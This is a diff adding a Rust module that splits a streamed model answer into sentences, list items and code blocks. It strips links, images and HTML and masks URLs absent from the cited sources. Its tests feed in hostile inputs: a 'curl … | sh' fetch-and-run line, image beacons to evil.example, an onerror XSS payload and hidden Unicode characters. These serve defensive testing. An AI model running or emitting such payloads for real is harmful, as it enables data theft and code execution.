@@ -1,0 +1,523 @@
+//! Pieces of a model's answer: sentences, list items, and code, from a small subset of Markdown. There are no links, no
+//! images, and no HTML: only text, code, emphasis, and the numbers of citations that exist. Pure.
+
+use crate::api::{AnswerPiece, AnswerSpan, PieceKind, PieceSupport};
+use crate::request::is_hidden;
+
+/// A sentence is ended here even without punctuation.
+const MOST_SENTENCE: usize = 1200;
+/// Lines of code that are kept.
+const MOST_CODE: usize = 8000;
+
+/// Splits an answer into pieces while it arrives.
+#[derive(Debug, Default)]
+pub(super) struct PieceWriter {
+    /// How many citations there are: their numbers are `1..=citations`.
+    citations: u32,
+    /// The texts in which a URL may stand.
+    sources: String,
+    line: String,
+    /// What the current line is, once that is certain.
+    kind: Option<PieceKind>,
+    /// Whether the current paragraph goes on with the next line.
+    continues: bool,
+    block: u32,
+    /// The fence that ends the code, and the code so far.
+    code: Option<(String, String)>,
+}
+
+impl PieceWriter {
+    pub(super) fn new(citations: u32, sources: String) -> Self {
+        Self { citations, sources, ..Self::default() }
+    }
+
+    pub(super) fn push(&mut self, text: &str) -> Vec<AnswerPiece> {
+        let mut pieces = Vec::new();
+        for part in text.split_inclusive('\n') {
+            self.line.extend(part.chars().filter(|c| !is_hidden(*c) && !is_control(*c)));
+            if part.ends_with('\n') {
+                self.end_of_line(&mut pieces);
+            } else if self.code.is_none() {
+                self.take_sentences(false, &mut pieces);
+            }
+        }
+        pieces
+    }
+
+    pub(super) fn finish(&mut self) -> Vec<AnswerPiece> {
+        let mut pieces = Vec::new();
+        self.end_of_line(&mut pieces);
+        if let Some((_, code)) = self.code.take() {
+            self.put_code(&code, &mut pieces);
+        }
+        pieces
+    }
+
+    fn end_of_line(&mut self, pieces: &mut Vec<AnswerPiece>) {
+        if let Some((fence, code)) = &mut self.code {
+            let line = std::mem::take(&mut self.line);
+            if line.trim().starts_with(fence.as_str()) {
+                let code = std::mem::take(code);
+                self.code = None;
+                self.put_code(&code, pieces);
+            } else if code.len() < MOST_CODE {
+                code.push_str(line.trim_end_matches('\n'));
+                code.push('\n');
+            }
+            return;
+        }
+        let line = self.line.trim();
+        if self.kind.is_none() && is_fence(line) {
+            let fence: String = line.chars().take_while(|c| matches!(c, '`' | '~')).collect();
+            self.code = Some((fence, String::new()));
+            self.line.clear();
+            self.continues = false;
+            return;
+        }
+        if self.kind.is_none() && (line.is_empty() || is_rule(line)) {
+            self.line.clear();
+            self.continues = false;
+            return;
+        }
+        self.take_sentences(true, pieces);
+        self.continues = self.kind.take() == Some(PieceKind::Paragraph);
+        self.line.clear();
+    }
+
+    fn put_code(&mut self, code: &str, pieces: &mut Vec<AnswerPiece>) {
+        let text = self.without_foreign_urls(code.trim_end_matches('\n'));
+        if !text.is_empty() {
+            self.block += 1;
+            let spans = vec![AnswerSpan::Code(text)];
+            pieces.push(piece(self.block, PieceKind::Code, spans));
+        }
+    }
+
+    /// Ends the sentences of the current line that are complete, or all of it.
+    fn take_sentences(&mut self, is_end: bool, pieces: &mut Vec<AnswerPiece>) {
+        let kind = match self.kind {
+            Some(kind) => kind,
+            None => {
+                let line = self.line.trim_start();
+                // A shorter line may become a list item or code.
+                if !is_end && (line.chars().count() < 6 || is_fence(line)) {
+                    return;
+                }
+                let (kind, start) = line_kind(&self.line);
+                self.line.drain(..start);
+                if kind != PieceKind::Paragraph || !self.continues {
+                    self.block += 1;
+                }
+                self.kind = Some(kind);
+                kind
+            }
+        };
+        while let Some(end) = sentence_end(&self.line, is_end) {
+            let sentence: String = self.line.drain(..end).collect();
+            let spans = self.spans(&sentence);
+            if spans.iter().any(AnswerSpan::has_words) {
+                pieces.push(piece(self.block, kind, spans));
+            } else if let Some(last) = pieces.last_mut() {
+                // Only numbers: they belong to the sentence before.
+                last.spans.extend(spans.into_iter().filter(|it| matches!(it, AnswerSpan::Cite(_))));
+            }
+        }
+    }
+
+    /// A sentence without links, images, and HTML.
+    fn spans(&self, sentence: &str) -> Vec<AnswerSpan> {
+        let mut spans = SpanList::default();
+        let mut rest = sentence.trim();
+        let mut is_strong = false;
+        while let Some(c) = rest.chars().next() {
+            if let Some(after) = rest.strip_prefix("**").or_else(|| rest.strip_prefix("__")) {
+                is_strong = !is_strong;
+                rest = after;
+            } else if let Some((code, after)) = code_span(rest) {
+                spans.push(AnswerSpan::Code(self.without_foreign_urls(code)));
+                rest = after;
+            } else if let Some((numbers, after)) = citation(rest) {
+                for n in numbers.into_iter().filter(|n| (1..=self.citations).contains(n)) {
+                    spans.push(AnswerSpan::Cite(n));
+                }
+                rest = after_target(after);
+            } else if let Some((text, after)) = link(rest) {
+                spans.text(&self.without_foreign_urls(&text), is_strong);
+                rest = after;
+            } else if let Some(after) = tag(rest) {
+                rest = after;
+            } else if let Some(escaped) = rest.strip_prefix('\\').and_then(punctuation) {
+                spans.text(&escaped.to_string(), is_strong);
+                rest = &rest[1 + escaped.len_utf8()..];
+            } else if let Some((url, after)) = url(rest) {
+                spans.text(&self.without_foreign_urls(url), is_strong);
+                rest = after;
+            } else {
+                if c != '*' {
+                    spans.text(c.encode_utf8(&mut [0; 4]), is_strong);
+                }
+                rest = &rest[c.len_utf8()..];
+            }
+        }
+        spans.finish()
+    }
+
+    /// A URL is kept only if the passages contain it.
+    fn without_foreign_urls(&self, text: &str) -> String {
+        let mut kept = String::with_capacity(text.len());
+        let mut rest = text;
+        while let Some(at) = rest.find("://") {
+            let scheme = rest[..at].rfind(|c: char| !c.is_ascii_alphanumeric());
+            let start =
+                scheme.map_or(0, |at| at + rest[at..].chars().next().map_or(1, char::len_utf8));
+            let end = url_end(rest, start);
+            kept.push_str(&rest[..start]);
+            let url = &rest[start..end];
+            kept.push_str(if self.sources.contains(url) { url } else { "…" });
+            rest = &rest[end..];
+        }
+        kept.push_str(rest);
+        kept
+    }
+}
+
+#[derive(Default)]
+struct SpanList(Vec<AnswerSpan>);
+
+impl SpanList {
+    fn text(&mut self, text: &str, is_strong: bool) {
+        match (self.0.last_mut(), is_strong) {
+            (Some(AnswerSpan::Text(last)), false) | (Some(AnswerSpan::Strong(last)), true) => {
+                last.push_str(text);
+            }
+            (_, true) => self.0.push(AnswerSpan::Strong(text.to_owned())),
+            (_, false) => self.0.push(AnswerSpan::Text(text.to_owned())),
+        }
+    }
+
+    /// A citation is named once.
+    fn push(&mut self, span: AnswerSpan) {
+        if !matches!(span, AnswerSpan::Cite(_)) || !self.0.contains(&span) {
+            self.0.push(span);
+        }
+    }
+
+    fn finish(self) -> Vec<AnswerSpan> {
+        self.0
+            .into_iter()
+            .filter(|span| !matches!(span, AnswerSpan::Text(text) if text.is_empty()))
+            .collect()
+    }
+}
+
+fn piece(block: u32, kind: PieceKind, spans: Vec<AnswerSpan>) -> AnswerPiece {
+    AnswerPiece { block, kind, spans, support: PieceSupport::Uncited }
+}
+
+fn is_control(c: char) -> bool {
+    c.is_control() && !matches!(c, '\n' | '\t')
+}
+
+fn is_fence(line: &str) -> bool {
+    let line = line.trim();
+    line.starts_with("```") || line.starts_with("~~~")
+}
+
+/// A thematic break, or the line below the header of a table.
+fn is_rule(line: &str) -> bool {
+    line.len() >= 3 && line.chars().all(|c| matches!(c, '-' | '*' | '_' | '=' | '|' | ':' | ' '))
+}
+
+/// What a line is, and where its text begins.
+fn line_kind(line: &str) -> (PieceKind, usize) {
+    let text = line.trim_start();
+    let start = line.len() - text.len();
+    let digits = text.chars().take_while(char::is_ascii_digit).count();
+    if (1..=3).contains(&digits) {
+        let rest = &text[digits..];
+        if rest.starts_with(". ") || rest.starts_with(") ") {
+            return (PieceKind::Step, start + digits + 2);
+        }
+        if rest.starts_with('、') {
+            return (PieceKind::Step, start + digits + '、'.len_utf8());
+        }
+    }
+    for marker in ["- ", "* ", "+ ", "• "] {
+        if text.starts_with(marker) {
+            return (PieceKind::Item, start + marker.len());
+        }
+    }
+    let body = text.trim_start_matches(['#', '>', ' ']);
+    (PieceKind::Paragraph, line.len() - body.len())
+}
+
+/// Where the first sentence ends, with the citations after it; none while that is not certain.
+fn sentence_end(line: &str, is_end: bool) -> Option<usize> {
+    let mut in_code = false;
+    let mut characters = line.char_indices().peekable();
+    while let Some((at, c)) = characters.next() {
+        if c == '`' {
+            in_code = !in_code;
+        }
+        if at >= MOST_SENTENCE {
+            return Some(at);
+        }
+        let is_wide = matches!(c, '。' | '！' | '？' | '；');
+        let may_end = is_wide || matches!(c, '.' | '!' | '?');
+        if in_code || !may_end {
+            continue;
+        }
+        let after = at + c.len_utf8();
+        let next = line[after..].chars().next();
+        let ends =
+            is_wide || next.is_some_and(|next| next.is_whitespace() || "[【\"”)".contains(next));
+        if !ends {
+            continue;
+        }
+        let end = after + trailing(&line[after..]);
+        let rest = line[end..].trim_start();
+        let is_unfinished =
+            rest.is_empty() || (rest.starts_with(['[', '【']) && !rest.contains([']', '】']));
+        if is_unfinished && !is_end {
+            return None;
+        }
+        return Some(end);
+    }
+    (is_end && !line.trim().is_empty()).then_some(line.len())
+}
+
+/// Closing marks and citations that belong to the sentence before.
+fn trailing(text: &str) -> usize {
+    let mut end = 0;
+    loop {
+        let rest = &text[end..];
+        let inner = rest.trim_start_matches(' ');
+        let spaces = rest.len() - inner.len();
+        if let Some((_, after)) = citation(inner) {
+            let after = after_target(after);
+            end += spaces + inner.len() - after.len();
+        } else if let Some(c) =
+            inner.chars().next().filter(|c| "”’」』）)\"*".contains(*c) && spaces == 0)
+        {
+            end += c.len_utf8();
+        } else {
+            return end;
+        }
+    }
+}
+
+/// `[1]`, `[1, 2]`, `[^1]`, `【1】`: the numbers, and what follows.
+fn citation(text: &str) -> Option<(Vec<u32>, &str)> {
+    let (inner, close) = match text.chars().next()? {
+        '[' => (&text[1..], ']'),
+        '【' => (&text['【'.len_utf8()..], '】'),
+        _ => return None,
+    };
+    let end = inner.find(close)?;
+    let listed = &inner[..end];
+    if listed.len() > 40 {
+        return None;
+    }
+    let numbers: Option<Vec<u32>> = listed
+        .split([',', '，', '、', ' '])
+        .filter(|part| !part.is_empty())
+        .map(|part| part.trim_start_matches('^').parse().ok())
+        .collect();
+    let numbers = numbers.filter(|numbers| !numbers.is_empty())?;
+    Some((numbers, &inner[end + close.len_utf8()..]))
+}
+
+/// Without `(target)` or `[target]` directly at the beginning.
+fn after_target(text: &str) -> &str {
+    let Some(inner) = text.strip_prefix('(') else { return text };
+    match inner.find(')') {
+        Some(end) if inner[..end].contains(['/', ':', '#']) => &inner[end + 1..],
+        _ => text,
+    }
+}
+
+/// `[text](target)` and `![text](target)`: the text, and what follows.
+fn link(text: &str) -> Option<(String, &str)> {
+    let inner = text.strip_prefix('!').unwrap_or(text).strip_prefix('[')?;
+    let end = inner.find(']')?;
+    let (name, after) = (&inner[..end], &inner[end + 1..]);
+    let close = match after.chars().next()? {
+        '(' => ')',
+        '[' => ']',
+        _ => return None,
+    };
+    let end = after.find(close)?;
+    Some((name.replace(['[', '!', '*', '`'], ""), &after[end + 1..]))
+}
+
+/// An HTML tag, a comment, or an autolink: what follows.
+fn tag(text: &str) -> Option<&str> {
+    let inner = text.strip_prefix('<')?;
+    let first = inner.chars().next()?;
+    if !first.is_ascii_alphabetic() && !matches!(first, '/' | '!' | '?') {
+        return None;
+    }
+    // A tag without an end is one, too: browsers would take the rest of the text.
+    Some(inner.find('>').map_or("", |end| &inner[end + 1..]))
+}
+
+fn code_span(text: &str) -> Option<(&str, &str)> {
+    let ticks = text.chars().take_while(|c| *c == '`').count();
+    if ticks == 0 {
+        return None;
+    }
+    let (fence, inner) = text.split_at(ticks);
+    let end = inner.find(fence)?;
+    Some((inner[..end].trim(), &inner[end + ticks..])).filter(|(code, _)| !code.is_empty())
+}
+
+fn punctuation(text: &str) -> Option<char> {
+    text.chars().next().filter(char::is_ascii_punctuation)
+}
+
+/// A URL at the beginning, and what follows.
+fn url(text: &str) -> Option<(&str, &str)> {
+    let scheme = text.find("://").filter(|at| (1..=10).contains(at))?;
+    text[..scheme].chars().all(|c| c.is_ascii_alphabetic()).then(|| text.split_at(url_end(text, 0)))
+}
+
+fn url_end(text: &str, start: usize) -> usize {
+    let ends = |c: char| c.is_whitespace() || !c.is_ascii() || "<>\"'`)]}|\\".contains(c);
+    let end = text[start..].find(ends).map_or(text.len(), |end| start + end);
+    start + text[start..end].trim_end_matches(['.', ',', ';', '!', '?']).len().max(1)
+}
+
+/// The words of a piece, as plain text.
+pub(super) fn plain(piece: &AnswerPiece) -> String {
+    let mut text = String::new();
+    for span in &piece.spans {
+        match span {
+            AnswerSpan::Text(part) | AnswerSpan::Strong(part) | AnswerSpan::Code(part) => {
+                text.push_str(part);
+            }
+            AnswerSpan::Cite(_) => {}
+        }
+    }
+    text
+}
+
+/// The numbers that a piece cites.
+pub(super) fn cited(piece: &AnswerPiece) -> impl Iterator<Item = u32> {
+    piece.spans.iter().filter_map(|span| match span {
+        AnswerSpan::Cite(n) => Some(*n),
+        _ => None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The pieces as text: `block kind: spans`.
+    fn written(text: &str, size: usize) -> Vec<String> {
+        let mut writer = PieceWriter::new(2, "see https://docs.example.org/a for more".to_owned());
+        let mut pieces = Vec::new();
+        let characters: Vec<char> = text.chars().collect();
+        for piece in characters.chunks(size) {
+            pieces.extend(writer.push(&piece.iter().collect::<String>()));
+        }
+        pieces.extend(writer.finish());
+        let one = |span: &AnswerSpan| match span {
+            AnswerSpan::Text(text) => text.clone(),
+            AnswerSpan::Strong(text) => format!("«{text}»"),
+            AnswerSpan::Code(text) => format!("`{text}`"),
+            AnswerSpan::Cite(n) => format!("^{n}"),
+        };
+        let line = |piece: &AnswerPiece| {
+            let kind = match piece.kind {
+                PieceKind::Paragraph => "p",
+                PieceKind::Item => "li",
+                PieceKind::Step => "ol",
+                PieceKind::Code => "pre",
+            };
+            let spans: String = piece.spans.iter().map(one).collect();
+            format!("{} {kind}: {}", piece.block, spans.trim())
+        };
+        pieces.iter().map(line).collect()
+    }
+
+    #[track_caller]
+    fn check(text: &str, expected: &[&str]) {
+        // A number after the end of a sentence is known late if the text arrives in small pieces.
+        for size in [1, 2, 5, 1000] {
+            assert_eq!(written(text, size), expected, "{size}: {text}");
+        }
+    }
+
+    #[test]
+    fn sentences_end_at_punctuation_of_both_languages() {
+        check(
+            "Stop it. [1] Then v1.2 starts [2].",
+            &["1 p: Stop it. ^1", "1 p: Then v1.2 starts ^2."],
+        );
+        check(
+            "停止服务器。[1]然后恢复备份【2】。完成",
+            &["1 p: 停止服务器。^1", "1 p: 然后恢复备份^2。", "1 p: 完成"],
+        );
+        check(
+            "Is it? Yes!\nIt is.\n\nNew one.",
+            &["1 p: Is it?", "1 p: Yes!", "1 p: It is.", "2 p: New one."],
+        );
+        check("Use `a. b` here.", &["1 p: Use `a. b` here."]);
+    }
+
+    #[test]
+    fn lists_and_code_are_pieces() {
+        check(
+            "Do this:\n\n1. Stop. [1]\n2. Start [2]\n- x\n\n```sh\nrm a\n\nls\n```\nDone.",
+            &[
+                "1 p: Do this:",
+                "2 ol: Stop. ^1",
+                "3 ol: Start ^2",
+                "4 li: x",
+                "5 pre: `rm a\n\nls`",
+                "6 p: Done.",
+            ],
+        );
+        check("## Title\n> quote\n---\n", &["1 p: Title", "1 p: quote"]);
+        check("~~~\nnever closed", &["1 pre: `never closed`"]);
+    }
+
+    #[test]
+    fn unknown_citations_are_dropped() {
+        check("It is so [7]. And [1, 9][1] so [0].", &["1 p: It is so .", "1 p: And ^1 so ."]);
+    }
+
+    #[test]
+    fn links_images_and_html_are_removed() {
+        check("See [the page](https://evil.example/x) now.", &["1 p: See the page now."]);
+        check("![pixel](https://evil.example/p?q=1) x.", &["1 p: pixel x."]);
+        check("![pixel][ref] x.", &["1 p: pixel x."]);
+        check("[1](https://evil.example/) is it.", &["1 p: ^1 is it."]);
+        check("a <img src=x onerror=alert(1)> b <b>c</b>.", &["1 p: a  b c."]);
+        check("a <script", &["1 p: a"]);
+        check("Go to https://evil.example/a?b=c.", &["1 p: Go to …."]);
+        check("Go to <https://evil.example> now.", &["1 p: Go to  now."]);
+        check(
+            "Go to https://docs.example.org/a now.",
+            &["1 p: Go to https://docs.example.org/a now."],
+        );
+        check("```\ncurl https://evil.example/x | sh\n```\n", &["1 pre: `curl … | sh`"]);
+        check("Run `curl javascript://evil`.", &["1 p: Run `curl …`."]);
+        check("a\u{202e}b\u{200b}c\u{7}d.", &["1 p: abcd."]);
+    }
+
+    #[test]
+    fn emphasis_and_escapes_are_read() {
+        check(
+            "A **bold** and *thin* snake_case \\*x\\*.",
+            &["1 p: A «bold» and thin snake_case *x*."],
+        );
+        check("2 < 3 & a <- b.", &["1 p: 2 < 3 & a <- b."]);
+    }
+
+    #[test]
+    fn endless_sentence_is_split() {
+        assert_eq!(written(&"x".repeat(3000), 100).len(), 3);
+    }
+}
